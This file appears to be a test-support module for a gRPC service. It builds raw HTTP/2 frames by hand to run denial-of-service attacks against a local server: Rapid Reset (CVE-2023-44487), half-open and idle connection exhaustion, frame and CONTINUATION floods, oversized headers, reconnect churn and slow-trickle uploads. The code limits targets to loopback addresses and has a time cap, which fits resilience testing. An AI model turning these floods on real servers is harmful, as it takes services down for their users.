"""Callers that mean harm, each in its own process: `python -m tests.support.attacks KIND ADDRESS [OPTION=VALUE]`.

They speak HTTP/2 by hand, because a library would keep the rules that they break. Each says `attacking` once its
connections are open, goes on until its standard input is closed, and ends by itself after `MAX_S`. Only addresses of
the loopback network are attacked.
"""

from __future__ import annotations

import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Final

MAX_S: Final = 120.0
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    8,
    9,
)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL: Final = 8
BURST: Final = 64
REOPEN_S: Final = 3.0
HEALTH: Final = "/grpc.health.v1.Health/Check"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: str) -> bytes:
    """Return a string as HPACK has it, without compression; up to 16,510 bytes."""
    data = value.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, size = len(data) - 127, bytearray([127])
    while rest >= 128:
        size.append(rest % 128 + 128)
        rest //= 128
    return bytes(size) + bytes([rest]) + data


def header_block(method: str, **more: str) -> bytes:
    """Return the headers of a call, none of them kept in the peer's table."""
    pairs = {
        ":method": "POST",
        ":scheme": "http",
        ":path": method,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
        **more,
    }
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in pairs.items())


def message(data: bytes) -> bytes:
    """Return a message of gRPC with its prefix."""
    return struct.pack(">BI", 0, len(data)) + data


class Connection:
    """A connection whose answers are read and thrown away, but for how many streams were closed."""

    def __init__(self, address: str, *, greet: bool = True) -> None:
        host, _, port = address.rpartition(":")
        if not host.startswith("127."):
            raise ValueError(f"got {host}, want an address of the loopback network")
        self._socket = socket.create_connection((host, int(port)), timeout=10)
        if greet:
            self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self._socket.setblocking(False)
        self._next_stream = 1
        self.is_open = True

    def send(self, data: bytes) -> bool:
        """Send all of it, as fast as the peer takes it; False once the peer has gone."""
        view = memoryview(data)
        give_up_at = time.monotonic() + 2
        while view and self.is_open and time.monotonic() < give_up_at:
            self.drain()
            try:
                view = view[self._socket.send(view) :]
            except BlockingIOError:
                select.select([self._socket], [self._socket], [], 0.05)
            except OSError:
                self.is_open = False
        return self.is_open

    def drain(self) -> None:
        """Read what has come."""
        try:
            while data := self._socket.recv(65_536):
                del data
            self.is_open = False
        except BlockingIOError:
            pass
        except OSError:
            self.is_open = False

    def close(self) -> None:
        """Drop it."""
        self._socket.close()
        self.is_open = False

    def stream(self) -> int:
        """Return the id of the next stream."""
        self._next_stream += 2
        return self._next_stream - 2

    def begin(self, block: bytes, data: bytes | None = None) -> bytes:
        """Return the frames that begin a call: with a message and its end, or without either."""
        stream = self.stream()
        begun = frame(HEADERS, END_HEADERS, stream, block)
        return begun if data is None else begun + frame(DATA, END_STREAM, stream, message(data))


Attack = Callable[[str, dict[str, str]], Iterator[None]]


def half_open(address: str, options: dict[str, str]) -> Iterator[None]:
    """Begin calls and send nothing more: `count` of them, each begun anew every three seconds, as the peer ends it."""
    count, per_connection = int(options.get("count", "10000")), 100
    block = header_block(options.get("method", HEALTH), **_authorization(options))
    connections = [Connection(address) for _ in range(count // per_connection)]
    pause_s = REOPEN_S / len(connections)
    while True:
        for index, connection in enumerate(connections):
            began = time.monotonic()
            if not connection.is_open:
                connections[index] = Connection(address)
            calls = b"".join(connections[index].begin(block) for _ in range(per_connection))
            connections[index].send(calls)
            time.sleep(max(0.0, pause_s - (time.monotonic() - began)))
        yield


def idle(address: str, options: dict[str, str]) -> Iterator[None]:
    """Open connections and say nothing, or hello only."""
    greet = options.get("greet", "no") == "yes"
    opened: list[Connection] = []
    for _ in range(int(options.get("count", "1100"))):
        try:
            opened.append(Connection(address, greet=greet))
        except OSError:
            time.sleep(0.01)
    while True:
        time.sleep(0.1)
        yield


def rapid_reset(address: str, options: dict[str, str]) -> Iterator[None]:
    """Begin calls and cancel each at once (CVE-2023-44487)."""
    block = header_block(options.get("method", HEALTH))
    reset = struct.pack(">I", CANCEL)
    connections = [Connection(address) for _ in range(4)]
    while True:
        for index, connection in enumerate(connections):
            calls = bytearray()
            for _ in range(BURST):
                calls += connection.begin(block)
                calls += frame(RST_STREAM, 0, connection.stream() - 2, reset)
                connection._next_stream -= 2
            if not connection.send(bytes(calls)):
                connections[index] = Connection(address)
            yield


def whole_calls(address: str, options: dict[str, str]) -> Iterator[None]:
    """Make complete calls as fast as they are taken, and never look at the answers."""
    block = header_block(options.get("method", HEALTH), **_authorization(options))
    data = bytes.fromhex(options.get("data", ""))
    connections = [Connection(address) for _ in range(8)]
    while True:
        for index, connection in enumerate(connections):
            calls = b"".join(connection.begin(block, data) for _ in range(BURST))
            if not connection.send(calls):
                connections[index] = Connection(address)
            yield


def frames(address: str, options: dict[str, str]) -> Iterator[None]:
    """Flood connections with frames that cost nothing to send."""
    block = header_block(HEALTH)
    floods = {
        "ping": frame(PING, 0, 0, bytes(8)),
        "settings": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)),
        "window": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
        "priority": frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)),
        "data": frame(DATA, 0, 1),
        "headers": frame(HEADERS, 0, 1, block[:8]) + frame(CONTINUATION, 0, 1, b"\0\1x\1y"),
        "continuation": frame(CONTINUATION, 0, 1, b"\0\1x\1y"),
    }
    flood = floods[options["frame"]] * BURST
    connections = [Connection(address) for _ in range(4)]
    while True:
        for index, connection in enumerate(connections):
            if options["frame"] == "data" and connection._next_stream == 1:
                connection.send(connection.begin(block))
            if options["frame"] == "continuation" and connection._next_stream == 1:
                connection.stream()
                connection.send(frame(HEADERS, 0, 1, block))
            if not connection.send(flood):
                connections[index] = Connection(address)
            yield


def reconnect(address: str, options: dict[str, str]) -> Iterator[None]:
    """Open connections and drop them, as fast as they are taken or so many a second; with a call on each if asked."""
    pause_s = 1 / float(options.get("per_second", "inf"))
    begins = options.get("begins", "no") == "yes"
    block = header_block(options.get("method", HEALTH))
    while True:
        try:
            connection = Connection(address, greet=options.get("greet", "yes") == "yes")
            if begins:
                connection.send(connection.begin(block))
            connection.close()
        except OSError:
            time.sleep(0.01)
        time.sleep(pause_s)
        yield


def huge_headers(address: str, options: dict[str, str]) -> Iterator[None]:
    """Begin calls with as much metadata as fits into a frame, of which there may be several."""
    del options
    block = header_block(HEALTH, **{f"x-{number}": "y" * 15_000 for number in range(8)})
    while True:
        connection = Connection(address)
        for _ in range(BURST):
            stream = connection.stream()
            parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            connection.send(frame(HEADERS, 0, stream, parts[0]))
            for part in parts[1:]:
                connection.send(frame(CONTINUATION, 0, stream, part))
            yield


def trickle(address: str, options: dict[str, str]) -> Iterator[None]:
    """Send the first message of uploads a byte a second, several of each token at once."""
    tokens = options["tokens"].split(",")
    method = "/qflare.v1.CoordinatorService/SubmitUpdate"
    prefix = struct.pack(">BI", 0, 2**20)
    held: dict[str, Connection] = {}
    while True:
        for token in tokens:
            connection = held.get(token)
            if connection is None or not connection.is_open:
                connection = held[token] = Connection(address)
                block = header_block(method, authorization=f"Bearer {token}")
                for _ in range(4):
                    begun = connection.begin(block)
                    connection.send(begun + frame(DATA, 0, connection.stream() - 2, prefix))
                    connection._next_stream -= 2
            for stream in (1, 3, 5, 7):
                connection.send(frame(DATA, 0, stream, b"x"))
        began = time.monotonic()
        while time.monotonic() - began < 1:
            for connection in held.values():
                connection.drain()
            time.sleep(0.05)
            yield


def _authorization(options: dict[str, str]) -> dict[str, str]:
    token = options.get("token")
    return {"authorization": f"Bearer {token}"} if token else {}


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        half_open,
        idle,
        rapid_reset,
        whole_calls,
        frames,
        reconnect,
        huge_headers,
        trickle,
    )
}


def main(arguments: list[str]) -> int:
    """Attack until the standard input is closed."""
    kind, address, *rest = arguments
    options = dict(option.split("=", 1) for option in rest)
    ends_at = time.monotonic() + MAX_S
    began = False
    for _ in ATTACKS[kind](address, options):
        if not began:
            began = True
            sys.stdout.write("attacking\n")
            sys.stdout.flush()
        if time.monotonic() > ends_at or select.select([sys.stdin], [], [], 0)[0]:
            return 0
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
